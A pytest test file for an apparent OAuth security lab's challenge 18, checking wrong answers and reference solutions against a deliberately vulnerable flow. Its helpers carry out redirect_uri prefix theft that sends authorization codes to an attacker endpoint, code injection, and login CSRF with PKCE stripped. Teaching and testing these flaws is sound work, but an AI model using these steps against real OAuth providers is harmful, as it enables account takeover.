"""Challenge 18's wrong answers (insecure ones first): each fails and the refusal names the security reason; each
reference solution (``notebooks/solutions/18.*.py``) solves its sub-challenge. Work done before ``start()`` never
counts."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from pathlib import Path
from types import SimpleNamespace
from typing import Any
from urllib.parse import urlencode

import httpx
import pytest

from labkit.challenges import Progress, start
from labkit.lab import Lab
from labkit.vulnerable.flow import MALLORY, MISTAKES

from .run_reference import attempt_row, run_solution

pytestmark = pytest.mark.integration
KEYS = ("redirect_prefix", "code_injection", "no_state", "pkce_downgrade", "iss_unchecked", "open_redirect")


@pytest.fixture(scope="module")
def lab() -> Iterator[Lab]:
    with Lab(vulnerable_as=True) as running:
        yield running


@pytest.fixture
def fresh(lab: Lab) -> Lab:
    assert lab.flow is not None
    lab.flow.enable(*MISTAKES)
    lab.flow.attacker.authorize_to = None
    honest_login(lab)  # alice's browser: logged in as herself, no login of an earlier test left pending
    return lab


def _query(url: str) -> dict[str, str]:
    return dict(httpx.URL(url).params)


def steal(lab: Lab, redirect_uri: str | None = None, inject: bool = True) -> Any:
    """The redirect theft: alice opens a link to the attacker's redirect; the code is injected in the attacker's
    session (unless ``inject`` is False)."""
    assert lab.flow is not None
    with httpx.Client(trust_env=False) as me:
        request = _query(me.get(f"{lab.flow.client.url}/login").headers["location"])
        request["redirect_uri"] = redirect_uri or (lab.flow.client.origin + "@" + lab.flow.attacker.url[7:] + "/steal")
        lab.flow.victim.visit(f"{lab.flow.as_.url}/authorize?{urlencode(request)}")
        if inject:
            stolen = lab.flow.attacker.received[-1].params["code"]
            me.get(f"{lab.flow.client.url}/callback",
                   params={"code": stolen, "state": request.get("state", ""), "iss": lab.flow.as_.issuer})


def csrf(lab: Lab) -> None:
    assert lab.flow is not None
    with httpx.Client(trust_env=False) as mallory:
        mallory.post(f"{lab.flow.as_.url}/login", data={"username": MALLORY[0], "password": MALLORY[1]})
        request = _query(mallory.get(f"{lab.flow.client.url}/login").headers["location"])
        request.pop("code_challenge")
        request.pop("code_challenge_method")
        location = mallory.get(f"{lab.flow.as_.url}/authorize", params=request).headers.get("location")
    if location:
        lab.flow.victim.visit(location)


def off(name: str) -> Callable[[Lab], None]:
    def act(lab: Lab) -> None:
        assert lab.flow is not None
        lab.flow.disable(name)
    return act


def honest_login(lab: Lab) -> None:
    assert lab.flow is not None
    lab.flow.victim.visit(f"{lab.flow.client.url}/login")


def steps(*acts: Callable[[Lab], Any]) -> Callable[[Lab], None]:
    def act(lab: Lab) -> None:
        for one in acts:
            one(lab)
    return act


def other_redirect(lab: Lab) -> None:
    assert lab.flow is not None
    steal(lab, lab.flow.client.origin + "@" + lab.flow.attacker.url[7:] + "/elsewhere")


WRONG: list[tuple[str, str, Callable[[Lab], None], str]] = [
    # insecure: the attack won, the mistake is still on
    ("theft, mistake left on", "redirect_prefix", steal, "now the fix: lab.flow.disable('redirect_prefix')"),
    ("theft, replayed to another redirect", "redirect_prefix", steps(steal, off("redirect_prefix"), other_redirect),
     "now the fix"),
    ("injection, mistake left on", "code_injection", steps(steal, steal), "now the fix"),
    ("csrf, no_state left on", "no_state", steps(csrf, csrf), "now the fix: lab.flow.disable('no_state')"),
    ("csrf, PKCE fixed instead of state", "no_state", steps(csrf, off("pkce_downgrade"), csrf), "now the fix"),
    ("csrf, pkce left on", "pkce_downgrade", csrf, "now the fix"),
    ("leak without the client's open redirect", "open_redirect", steal, "won without open_redirect"),
    # not the attack: nothing won after start()
    ("an honest login", "redirect_prefix", honest_login, "no attack has won through redirect_prefix"),
    ("code stolen but never injected", "redirect_prefix", lambda lab: steal(lab, inject=False),
     "RFC 9700 §2.1"),
    ("only switched off", "iss_unchecked", off("iss_unchecked"), "RFC 9207 §2.4"),
    ("the mix-up without a redirect set", "iss_unchecked",
     lambda lab: lab.flow.victim.visit(f"{lab.flow.client.url}/login?as=other") if lab.flow else None,
     "no attack has won through iss_unchecked"),
]


@pytest.mark.parametrize("key,act,why", [(k, a, w) for _, k, a, w in WRONG], ids=[n for n, _, _, _ in WRONG])
def test_wrong_answer_fails_and_says_why(fresh: Lab, tmp_path: Path, key: str, act: Callable[[Lab], None],
                                         why: str) -> None:
    result = attempt_row(f"18.{key}", fresh, tmp_path / "progress.json", act)
    assert not result and why in result.message, result
    assert f"18.{key}" not in Progress(tmp_path / "progress.json").solved()


def test_the_attack_before_start_does_not_count(fresh: Lab, tmp_path: Path) -> None:
    steal(fresh)
    challenge = start("18.redirect_prefix", fresh, progress=tmp_path / "progress.json")
    off("redirect_prefix")(fresh)
    result = challenge.check()
    assert not result and "no attack has won" in result.message, result


@pytest.mark.parametrize("key", KEYS)
def test_the_reference_solution_solves(fresh: Lab, tmp_path: Path, key: str) -> None:
    browsers: list[httpx.Client] = []

    def browser(**kwargs: Any) -> httpx.Client:
        browsers.append(httpx.Client(**kwargs))
        return browsers[-1]

    shim = SimpleNamespace(Client=browser)  # the solutions' httpx.Client, closed after the run
    names = {"httpx": shim, "urlencode": urlencode, "MALLORY": MALLORY, "query_of": _query}
    try:
        result = run_solution(f"18.{key}", fresh, tmp_path / "progress.json", **names)
    finally:
        for one in browsers:
            one.close()
    assert result and "with it off the same attack was refused" in result.message, result


def test_the_prediction_is_scored_against_the_real_provider(lab: Lab, tmp_path: Path) -> None:
    from labkit.challenges import predict

    revealed = predict("18", "provider", lab, progress=tmp_path / "progress.json").reveal()
    assert [real for _, _, real in revealed.rows] == ["code", "refused", "refused", "refused", "refused"]
